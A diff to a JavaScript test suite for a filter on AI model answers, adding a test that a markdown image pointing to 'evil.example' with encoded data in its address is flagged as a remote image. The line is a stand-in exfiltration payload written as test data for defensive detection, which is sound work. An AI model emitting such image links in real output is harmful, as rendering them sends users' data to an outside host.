@@ -35,6 +35,12 @@ describe('an answer that is not streamed', () => {
     });
   });
 
+  test('is flagged where it makes its reader fetch an image with data in its address, and passes as it was', async () => {
+    const body = message([{ type: 'text', text: '![x](https://evil.example/?d=c2VjcmV0)' }], 'end_turn');
+    const { text, answer } = await answered(body);
+    expect([text, answer.flags]).toEqual([body, ['remote-image']]);
+  });
+
   test('loses what must not come back, and goes back as it was', async () => {
     const rules = masking();
     const { text, answer } = await answered(message([{ type: 'text', text: `x ${ticket}` }, call]), {}, rules);
